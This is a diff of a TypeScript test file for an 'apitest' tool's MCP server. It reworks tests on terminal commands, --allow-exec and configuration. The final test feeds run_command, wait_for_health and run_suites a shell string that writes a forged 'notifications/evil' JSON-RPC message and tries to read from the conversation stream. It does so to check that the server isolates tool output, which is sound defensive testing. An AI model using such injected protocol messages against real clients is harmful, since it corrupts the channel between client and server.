-        const [, command = ''] = /^The user can run this in a terminal: (apitest .*)\.$/m.exec(text) ?? []
-        assert.equal(text.split('\n').length, 3, text)
+        const command = commandIn(text)
+        assert.equal(text.split('\n').length, 4, text)
         const count = seen.length
-        const { exitCode, output, errors } = await runShell(folder, command.replace(/^apitest/, 'APITEST'))
+        const { exitCode, output, errors } = await runShell(folder, command)
         assert.equal(exitCode, 0, command + output + errors)
         assert.equal(seen.length, count + 1)
         assert.deepEqual(JSON.parse(String(seen.at(-1)?.body)), { value })
@@ -958,67 +993,63 @@ describe('the command that a client is told that cannot ask', () => {
       }
     }))
 
-  it(
-    'is the command and nothing behind it',
-    {
-      todo: 'a full stop follows the command at once: who copies the line to its end gets JSON with a dot behind it',
-    },
-    () =>
-      inScene({ era: '2026', capabilities: {} }, async ({ client, folder }) => {
-        const { text } = await client.once('create_saved', { name: 'Shop' })
-        const [, command = ''] = /terminal: (.*)$/m.exec(text) ?? []
-        const { exitCode, errors } = await runShell(folder, command.replace(/^apitest/, 'APITEST'))
-        assert.equal(exitCode, 0, errors)
-      }),
-  )
+  it('is the command and nothing behind it', () =>
+    inScene({ era: '2026', capabilities: {} }, async ({ client, folder }) => {
+      const { text } = await client.once('create_saved', { name: 'Shop' })
+      const { exitCode, errors } = await runShell(folder, commandIn(text))
+      assert.equal(exitCode, 0, errors)
+    }))
 
-  it('may run what the server may', { todo: 'byHand leaves out what --allow-exec grants' }, () =>
+  it('may run what the server may', () =>
     inScene(
       { era: '2026', capabilities: {}, args: ['--allow-exec'] },
       async ({ client, folder }) => {
         const { text } = await client.once('run_suites', { paths: ['x.apitest.yaml'] })
-        const [, command = ''] = /terminal: (apitest .*)\.$/m.exec(text) ?? []
-        await runShell(folder, command.replace(/^apitest/, 'APITEST'))
+        const command = commandIn(text)
+        assert.match(command, /"allowExec":true/)
+        await runShell(folder, command)
         assert.equal(existsSync(path.join(folder, 'made.txt')), true, command)
       },
       production,
-    ),
-  )
+    ))
 })
 
 describe('the configuration that a server is started with', () => {
-  it(
-    'is that of its calls',
-    {
-      todo: '--config of `apitest mcp` is only read for its mode and tools; operations look for apitest.config.yaml',
-    },
-    () =>
-      inScene(
-        { era: '2026', args: ['--config', 'other.yaml', '--mode', 'auto'] },
-        async ({ client, deed }) => {
-          const did = await deed(() =>
-            client.once('send_request', { environment: 'only', step: { request: 'GET {{base}}/o' } }),
-          )
-          assert.deepEqual(did.sent, ['GET /o'])
-        },
-        { 'other.yaml': 'environments:\n  only: { variables: { base: URL } }\n' },
-      ),
-  )
+  it('is that of its calls', () =>
+    inScene(
+      { era: '2026', args: ['--config', 'other.yaml', '--mode', 'auto'] },
+      async ({ client, deed }) => {
+        const did = await deed(() =>
+          client.once('send_request', { environment: 'only', step: { request: 'GET {{base}}/o' } }),
+        )
+        assert.deepEqual(did.sent, ['GET /o'])
+      },
+      { 'other.yaml': 'environments:\n  only: { variables: { base: URL } }\n' },
+    ))
 })
 
 describe('a command that a tool runs', () => {
-  it(
-    'does not write into the conversation, nor read from it',
-    {
-      todo: 'wait_for_health runs `test` with streams: inherit: its output is taken for messages of the server, and it can read those of the client',
-    },
-    () =>
+  for (const tool of ['run_command', 'wait_for_health', 'run_suites'])
+    it(`does not write into the conversation, nor read from it, by ${tool}`, () =>
       withFolder({}, async folder => {
-        await using server = await httpServer()
-        await using client = await toolClient({ era: '2026', folder, args: ['--mode', 'auto'] })
-        const test = `echo '{"jsonrpc":"2.0","method":"notifications/evil"}'; echo noise; head -c 1 > read.txt & sleep 0.5; kill $!`
-        await client.once('wait_for_health', { urls: [server.url], test })
+        const args = ['--mode', 'auto', '--allow-exec', '--tools', 'all']
+        await using client = await toolClient({ era: '2026', folder, args })
+        const command = `echo '{"jsonrpc":"2.0","method":"notifications/evil"}'; echo noise; echo noise >&2; touch made.txt; head -c 1 > read.txt & sleep 0.5; kill $!`
+        const inputs: Readonly<Record<string, JsonObject>> = {
+          run_command: { command, timeout: 5_000 },
+          wait_for_health: { urls: ['http://127.0.0.1:1/'], command, timeout: 5_000 },
+          run_suites: { paths: ['x.apitest.yaml'] },
+        }
+        await writeFile(
+          path.join(folder, 'x.apitest.yaml'),
+          `suite: X\nsteps:\n  - exec: ${JSON.stringify(['sh', '-c', command])}\n`,
+        )
+        const done = client.once(tool, inputs[tool] ?? {})
+        await wait(200)
+        await client.request('tools/list')
+        await done
+        assert.equal(existsSync(path.join(folder, 'made.txt')), true)
+        assert.equal(await readFile(path.join(folder, 'read.txt'), 'utf8'), '')
         assert.deepEqual([client.noise, client.notices], [[], []])
-      }),
-  )
+      }))
 })
